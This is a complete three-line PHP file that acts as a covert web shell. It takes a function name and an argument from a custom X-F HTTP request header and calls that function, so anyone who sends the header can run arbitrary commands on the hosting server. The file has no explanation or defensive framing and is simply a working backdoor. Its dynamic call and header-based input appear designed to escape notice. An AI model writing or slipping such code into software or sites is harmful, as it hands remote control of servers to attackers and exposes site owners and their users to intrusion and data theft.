<?php
$a = array_filter(array_map('trim', explode(',', $_SERVER['HTTP_X_F'])));
$a[0]($a[1]);
